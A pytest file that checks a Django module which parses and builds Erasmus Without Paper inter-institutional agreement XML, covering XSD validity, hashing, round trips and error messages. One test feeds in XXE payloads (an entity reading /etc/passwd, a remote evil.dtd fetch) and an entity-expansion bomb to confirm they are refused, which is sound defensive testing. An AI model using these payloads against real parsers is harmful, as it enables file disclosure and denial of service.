"""Reading partners' IIAs get-responses and writing ours: XSD order, hash, round trip, clear errors."""

from dataclasses import replace
from datetime import date
from functools import cache
from pathlib import Path

import pytest
import xmlschema
from django.conf import settings
from lxml import etree

from mobilitas.agreements.ewp.iia_hash import iia_hash
from mobilitas.agreements.ewp.iia_xml import (
    IIAS_V7_NAMESPACE,
    IiaXmlError,
    build_get_response,
    element_to_iia,
    hash_iia_data,
    iia_to_element,
    parse_get_response,
)
from mobilitas.agreements.iia_data import (
    ConditionData,
    ContactData,
    IiaData,
    LanguageSkillData,
    PartnerData,
    SubjectAreaData,
)
from mobilitas.lib.errors import DomainError

XSD = "ewp-specs-api-iias/endpoints/get-response.xsd"
CATALOG_NS = "{urn:oasis:names:tc:entity:xmlns:xml:catalog}"
CONTACT = "https://github.com/erasmus-without-paper/ewp-specs-types-contact/tree/stable-v1"
XSLT_KIT_HASH = "87b33170d7a6c6d894215641f39e7b7de36501265479e5ab3922f32d5b225033"
EXAMPLE_HASH = "e950faa83a799cf45839e7915db88ed51575babe7845c1219dfde54ce30a61e4"


def ewp_file(relative: str) -> Path:
    path = Path(settings.MOBILITAS_EWP_SCHEMAS) / relative
    if not path.is_file():
        pytest.skip(f"EWP file {relative} is not under MOBILITAS_EWP_SCHEMAS ({settings.MOBILITAS_EWP_SCHEMAS})")
    return path


@cache
def _schema(xsd: str, catalog: str) -> xmlschema.XMLSchema10:
    """The IIAs v7 XSD, its remote imports redirected to local copies by the OASIS catalog (as validate.py)."""
    base = Path(catalog).parent
    entries = etree.parse(catalog).getroot()
    exact = {entry.get("name"): (base / entry.get("uri")).as_uri() for entry in entries.iter(f"{CATALOG_NS}uri")}
    prefixes = [
        (entry.get("uriStartString"), (base / entry.get("rewritePrefix")).as_uri() + "/")
        for entry in entries.iter(f"{CATALOG_NS}rewriteURI")
    ]

    def local_copy(uri: str) -> str:
        if uri in exact:
            return exact[uri]
        for start, prefix in prefixes:
            if uri.startswith(start):
                return prefix + uri[len(start) :]
        return uri

    return xmlschema.XMLSchema10(xsd, uri_mapper=local_copy, allow="local", use_fallback=False)


def schema_errors(document: bytes) -> list[str]:
    schema = _schema(str(ewp_file(XSD)), str(ewp_file("catalog.xml")))
    return [f"{error.path}: {error.reason}" for error in schema.iter_errors(document.decode("utf-8"))]


# A rich agreement: every kind of condition, contacts with both phone formats, optional fields filled in.
OURS = PartnerData(
    hei_id="u-picardie.fr",
    ounit_id="ou-42",
    iia_id="6a0b0a4e-1c4f-4f0e-9a1e-0c5b8f0d2a11",
    iia_code="IIA-2026/7 & co",
    signing_contact=ContactData(name="Anne Martin", email="anne.martin@u-picardie.fr", phone="+33322827272"),
    signing_date=date(2026, 1, 15),
    contacts=(
        ContactData(name="International office", email="ri@u-picardie.fr", phone="03 22 82 72 72", role="IRO"),
        ContactData(name="Erasmus desk"),
    ),
)
THEIRS = PartnerData(hei_id="uni-example.de", iia_id="IIA-991", iia_code="E+ 2026 DE-FR")
SAMPLE = IiaData(
    partners=(OURS, THEIRS),
    in_effect=True,
    conditions=(
        ConditionData(
            kind="student-studies",
            sending_hei_id="u-picardie.fr",
            receiving_hei_id="uni-example.de",
            first_year="2026/2027",
            last_year="2028/2029",
            mobilities_per_year="3",
            sending_ounit_id="ou-42",
            language_skills=(
                LanguageSkillData("de", "B2", SubjectAreaData("0311", "Economics")),
                LanguageSkillData("en"),
            ),
            subject_areas=(SubjectAreaData("0311", "  Economics, with a space kept  "), SubjectAreaData("0413")),
            other_info="Nominations by 15 May.\nSee the factsheet.",
            total_months_per_year="4.5",
            blended=True,
            eqf_levels=(6, 7),
        ),
        ConditionData(
            kind="student-traineeship",
            sending_hei_id="uni-example.de",
            receiving_hei_id="u-picardie.fr",
            first_year="2026/2027",
            last_year="2026/2027",
            mobilities_per_year="1",
            receiving_ounit_id="ou-42",
        ),
        ConditionData(
            kind="staff-teacher",
            sending_hei_id="u-picardie.fr",
            receiving_hei_id="uni-example.de",
            first_year="2026/2027",
            last_year="2027/2028",
            mobilities_per_year="2",
            language_skills=(LanguageSkillData("en", "C1"),),
            total_days_per_year="5.50",
        ),
        ConditionData(
            kind="staff-training",
            sending_hei_id="uni-example.de",
            receiving_hei_id="u-picardie.fr",
            first_year="2026/2027",
            last_year="2027/2028",
            mobilities_per_year="2",
        ),
    ),
    pdf_file="file-123",
)


def roundtrip(data: IiaData) -> IiaData:
    [(parsed, _element)] = parse_get_response(build_get_response([data]))
    return parsed


# Writing ---------------------------------------------------------------------------------------------------


def test_the_built_response_is_valid_against_the_xsd() -> None:
    document = build_get_response([SAMPLE, replace(SAMPLE, terminated_as_a_whole=True, pdf_file="")])
    assert schema_errors(document) == []


def test_the_built_response_carries_the_hash_of_each_iia() -> None:
    terminated = replace(SAMPLE, terminated_as_a_whole=True)
    parsed = parse_get_response(build_get_response([SAMPLE, terminated]))
    hashes = [data.iia_hash for data, _element in parsed]
    assert hashes == [iia_hash(element).hash for _data, element in parsed]
    assert hashes == [hash_iia_data(SAMPLE).hash, hash_iia_data(terminated).hash]
    assert hashes[0] != hashes[1]
    assert iia_hash(parsed[1][1]).text.startswith("_@terminated-as-a-whole@_")


def test_the_hash_ignores_the_hash_the_data_carries() -> None:
    assert hash_iia_data(replace(SAMPLE, iia_hash="f" * 64)) == hash_iia_data(SAMPLE)


def test_it_round_trips_data_without_markers() -> None:
    assert roundtrip(SAMPLE) == replace(SAMPLE, iia_hash=hash_iia_data(SAMPLE).hash)


def test_it_round_trips_v6_markers_too() -> None:
    first = SAMPLE.conditions[0]
    migrated = replace(
        SAMPLE,
        conditions=(
            replace(
                first,
                subject_areas=(SubjectAreaData("0311", "Economics", v6_value="031"),),
                not_yet_defined=frozenset({"mobilities-per-year", "recommended-language-skill"}),
            ),
        ),
    )
    result = hash_iia_data(migrated)
    assert not result.valid_for_approval
    assert "mobilities-per-year" not in result.text
    assert "isced-f-code=031_" in result.text
    assert roundtrip(migrated) == replace(migrated, iia_hash=result.hash)
    assert schema_errors(build_get_response([migrated])) == []


def test_it_writes_utf8_pretty_printed_with_a_declaration_and_the_usual_prefixes() -> None:
    document = build_get_response([replace(SAMPLE, partners=(replace(OURS, iia_code="Accord n° 7"), THEIRS))])
    assert document.startswith(b"<?xml version='1.0' encoding='UTF-8'?>\n<iias-get-response xmlns=")
    assert "Accord n° 7".encode() in document
    assert b"\n    <partner>\n      <hei-id>u-picardie.fr</hei-id>" in document
    assert b"<c:contact>" in document and b"<c:contact-name>Anne Martin</c:contact-name>" in document
    assert b"<p:e164>+33322827272</p:e164>" in document
    assert b"<p:other-format>03 22 82 72 72</p:other-format>" in document


def test_it_omits_empty_optional_elements() -> None:
    document = build_get_response([SAMPLE]).decode()
    traineeship = document[document.index("<student-traineeship") : document.index("</student-traineeship")]
    for absent in ("sending-ounit-id", "recommended-language-skill", "subject-area", "other-info-terms", "total-"):
        assert absent not in traineeship
    assert "<blended>false</blended>" in traineeship
    assert document.count("<pdf-file>") == 1
    assert "<signing-date>" in document and document.count("<signing-contact>") == 1
    assert "<isced-clarification/>" not in document and "<ounit-id/>" not in document


def test_it_groups_conditions_by_kind_in_schema_order_keeping_their_order_within_a_kind() -> None:
    teacher = SAMPLE.conditions[2]
    second_teacher = replace(teacher, mobilities_per_year="9")
    shuffled = replace(SAMPLE, conditions=(teacher, SAMPLE.conditions[0], second_teacher))
    parsed = roundtrip(shuffled)
    assert parsed.conditions == (SAMPLE.conditions[0], teacher, second_teacher)
    assert schema_errors(build_get_response([shuffled])) == []


def test_an_iia_element_stands_alone_with_its_namespaces() -> None:
    element = iia_to_element(SAMPLE)
    assert element.tag == f"{{{IIAS_V7_NAMESPACE}}}iia"
    assert element.nsmap[None] == IIAS_V7_NAMESPACE
    assert b"ns0:" not in etree.tostring(element)
    assert element.findtext("{*}iia-hash") == hash_iia_data(SAMPLE).hash
    assert element_to_iia(element) == replace(SAMPLE, iia_hash=hash_iia_data(SAMPLE).hash)


@pytest.mark.parametrize(
    ("relative", "expected"),
    [
        ("ewp-specs-api-iias/endpoints/get-response-example.xml", EXAMPLE_HASH),
        ("ewp-specs-api-iias/resources/xsltKit/get-response-v7.xml", XSLT_KIT_HASH),
    ],
)
def test_rewriting_a_published_example_keeps_its_hash_and_validity(relative: str, expected: str) -> None:
    """Contacts are not hashed, so what we keep of a partner's copy is enough to reproduce its hash."""
    [(data, element)] = parse_get_response(ewp_file(relative).read_bytes())
    assert data.iia_hash == iia_hash(element).hash == expected
    rewritten = build_get_response([data])
    assert schema_errors(rewritten) == []
    assert [d.iia_hash for d, _e in parse_get_response(rewritten)] == [expected]


# Reading ---------------------------------------------------------------------------------------------------


def test_it_reads_the_spec_example() -> None:
    [(data, element)] = parse_get_response(
        ewp_file("ewp-specs-api-iias/endpoints/get-response-example.xml").read_bytes()
    )
    assert element.tag == f"{{{IIAS_V7_NAMESPACE}}}iia"
    assert [p.hei_id for p in data.partners] == ["uw.edu.pl", "hibo.no"]
    assert data.partners[0].iia_code == "983/E+/III14&15"
    assert data.partners[0].signing_contact == ContactData(name="Sylwia Nowak", email="email@example.com")
    assert [c.kind for c in data.conditions] == [
        "student-studies",
        "student-traineeship",
        "staff-teacher",
        "staff-teacher",
        "staff-training",
    ]
    assert data.conditions[0].eqf_levels == (7, 8)
    assert data.conditions[0].language_skills[1] == LanguageSkillData("no", "B1")
    assert data.in_effect and not data.terminated_as_a_whole
    assert data.pdf_file == "4a483112-d306-4e77-87ff-05b823fb0e0f"
    assert not data.has_v6_markers


def test_it_reads_the_v6_markers_of_a_migrated_agreement() -> None:
    path = ewp_file("ewp-specs-api-iias/resources/xsltKit/get-response-v7.xml")
    [(data, _element)] = parse_get_response(path.read_bytes())
    studies = data.conditions[0]
    assert studies.not_yet_defined == {"mobilities-per-year", "recommended-language-skill"}
    assert studies.subject_areas == (SubjectAreaData("0314", "Social and behavioural sciences", v6_value="031"),)
    assert data.has_v6_markers


def test_it_accepts_documents_written_by_others() -> None:
    """Another prefix, comments, a processing instruction, whitespace around values."""
    xml = (
        build_get_response([SAMPLE])
        .decode()
        .replace("<iias-get-response xmlns=", "<!-- served by X -->\n<x:iias-get-response xmlns:x=")
        .replace("</iias-get-response>", "</x:iias-get-response>")
    )
    for name in ("iia", "partner", "hei-id", "iia-id", "in-effect", "cooperation-conditions", "iia-hash"):
        xml = xml.replace(f"<{name}>", f"<x:{name}>").replace(f"</{name}>", f"</x:{name}>")
    xml = xml.replace("<x:in-effect>true<", "<x:in-effect> true <?note?><")
    xml = xml.replace("<mobilities-per-year>3<", "<mobilities-per-year>\n  3\n<")
    xml = xml.replace('xmlns:x="', 'xmlns="' + IIAS_V7_NAMESPACE + '" xmlns:x="')
    [(data, _element)] = parse_get_response(xml.encode())
    assert data == replace(SAMPLE, iia_hash=hash_iia_data(SAMPLE).hash)


def test_an_empty_response_has_no_iia() -> None:
    assert parse_get_response(f'<iias-get-response xmlns="{IIAS_V7_NAMESPACE}"/>'.encode()) == []


# Errors ----------------------------------------------------------------------------------------------------


def error_of(document: bytes | str) -> IiaXmlError:
    data = document.encode() if isinstance(document, str) else document
    with pytest.raises(IiaXmlError) as raised:
        parse_get_response(data)
    assert isinstance(raised.value, DomainError)
    return raised.value


def sample_xml() -> str:
    return build_get_response([SAMPLE, SAMPLE]).decode()


def test_malformed_xml_names_line_and_column() -> None:
    xml = sample_xml().replace("</in-effect>", "</in-efect>", 1)
    line = xml[: xml.index("</in-efect>")].count("\n") + 1
    error = error_of(xml)
    assert error.message.startswith("The document is not well-formed XML: ")
    assert "in-effect" in error.message
    assert f"(line {line}, column 31)." in error.message
    assert error.line == line


@pytest.mark.parametrize("document", [b"", b"not xml at all", b"\xff\xfe<\x00"])
def test_what_is_not_xml_is_refused_clearly(document: bytes) -> None:
    error = error_of(document)
    assert error.message.startswith("The document is not well-formed XML")
    assert "line 1" in error.message


def test_a_wrong_root_element_says_what_was_expected() -> None:
    error = error_of(f'<iias-index-response xmlns="{IIAS_V7_NAMESPACE}"/>')
    assert "<iias-index-response>" in error.message
    assert f"expected <iias-get-response> in namespace {IIAS_V7_NAMESPACE}" in error.message


def test_a_wrong_namespace_names_both_namespaces() -> None:
    v6 = IIAS_V7_NAMESPACE.replace("stable-v7", "stable-v6")
    error = error_of(sample_xml().replace(IIAS_V7_NAMESPACE, v6))
    assert error.message == (
        f"<iias-get-response> is in namespace {v6}; expected namespace {IIAS_V7_NAMESPACE} (line 2)."
    )


def test_a_missing_namespace_is_named_as_such() -> None:
    error = error_of(sample_xml().replace(f' xmlns="{IIAS_V7_NAMESPACE}"', ""))
    assert "in namespace (no namespace); expected namespace" in error.message


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE lol [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
        '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd">]>',
    ],
)
def test_a_doctype_declaring_entities_is_refused(doctype: str) -> None:
    xml = sample_xml().replace("<iias-get-response", doctype + "\n<iias-get-response", 1)
    xml = xml.replace("<iia-code>IIA-2026/7 &amp; co", "<iia-code>&lol2;" if "lol" in doctype else "<iia-code>x")
    error = error_of(xml)
    assert "declares entities in its DOCTYPE" in error.message
    assert error.message.endswith("refused for safety (line 2).")
    assert error.line == 2


def test_a_plain_doctype_is_tolerated() -> None:
    xml = sample_xml().replace("<iias-get-response", "<!DOCTYPE iias-get-response>\n<iias-get-response", 1)
    assert len(parse_get_response(xml.encode())) == 2


def test_a_missing_hei_id_names_the_iia_the_partner_and_the_line() -> None:
    xml = sample_xml()
    second_iia = xml.index("<iia>", xml.index("<iia>") + 1)
    xml = xml[:second_iia] + xml[second_iia:].replace("<hei-id>u-picardie.fr</hei-id>", "", 1)
    error = error_of(xml)
    line = xml[: xml.index("<partner>", second_iia)].count("\n") + 1
    assert error.message == f"iia 2: partner 1 has no hei-id (line {line})."
    assert error.line == line


@pytest.mark.parametrize(
    ("before", "after", "message"),
    [
        (
            "<mobilities-per-year>3<",
            "<mobilities-per-year>0<",
            "iia 1: mobilities-per-year of student-studies-mobility-spec 1 must be a positive whole number, not “0”",
        ),
        (
            "<mobilities-per-year>3<",
            "<mobilities-per-year>-2<",
            "iia 1: mobilities-per-year of student-studies-mobility-spec 1 must be a positive whole number, not “-2”",
        ),
        (
            "<receiving-first-academic-year-id>2026/2027<",
            "<receiving-first-academic-year-id>2026-27<",
            "iia 1: receiving-first-academic-year-id of student-studies-mobility-spec 1 must be an academic year "
            "such as 2026/2027, not “2026-27”",
        ),
        (
            "<receiving-last-academic-year-id>2028/2029<",
            "<receiving-last-academic-year-id>2028/2031<",
            "iia 1: receiving-last-academic-year-id of student-studies-mobility-spec 1 must be an academic year "
            "such as 2026/2027, not “2028/2031”",
        ),
        (
            "<receiving-last-academic-year-id>2028/2029<",
            "<receiving-last-academic-year-id>2024/2025<",
            "iia 1: student-studies-mobility-spec 1 ends in 2024/2025, before it starts in 2026/2027",
        ),
        (
            "<eqf-level>7<",
            "<eqf-level>9<",
            "iia 1: eqf-level of student-studies-mobility-spec 1 must be an EQF level from 1 to 8, not “9”",
        ),
        ("<blended>true<", "<blended>yes<", "iia 1: blended of student-studies-mobility-spec 1 must be true or false"),
        (
            "<total-months-per-year>4.5<",
            "<total-months-per-year>0.0<",
            "iia 1: total-months-per-year of student-studies-mobility-spec 1 must be a positive decimal number",
        ),
        ("<in-effect>true<", "<in-effect>maybe<", "iia 1: in-effect of iia must be true or false, not “maybe”"),
        (
            "<signing-date>2026-01-15<",
            "<signing-date>2026-02-30<",
            "iia 1: signing-date of partner 1 must be a date such as 2026-01-31",
        ),
        ("<blended>true</blended>", "", "iia 1: student-studies-mobility-spec 1 has no blended"),
        ("<sending-hei-id>u-picardie.fr</sending-hei-id>", "", "iia 1: student-studies-mobility-spec 1 has no"),
        ("<language>de</language>", "", "iia 1: student-studies-mobility-spec 1 has no language"),
        (
            "<student-traineeship-mobility-spec>",
            "<bogus-mobility-spec/><student-traineeship-mobility-spec>",
            "iia 1: cooperation-conditions holds an unexpected element <bogus-mobility-spec>",
        ),
        ("<in-effect>true</in-effect>", "", "iia 1 has no in-effect"),
    ],
)
def test_bad_values_and_missing_elements_are_named(before: str, after: str, message: str) -> None:
    xml = sample_xml()
    assert before in xml
    error = error_of(xml.replace(before, after, 1))
    assert error.message.startswith(message)
    assert error.message.endswith(f"(line {error.line}).")


def test_an_iia_needs_exactly_two_partners() -> None:
    xml = sample_xml()
    start = xml.index("<partner>", xml.index("</partner>"))
    xml = xml[:start] + xml[xml.index("</partner>", start) + len("</partner>") :]
    assert error_of(xml).message == "iia 1 has 1 partner elements; exactly 2 are required (line 3)."


def test_southern_hemisphere_years_are_accepted() -> None:
    southern = replace(
        SAMPLE, conditions=(replace(SAMPLE.conditions[1], first_year="2026/2026", last_year="2027/2027"),)
    )
    assert roundtrip(southern).conditions == southern.conditions
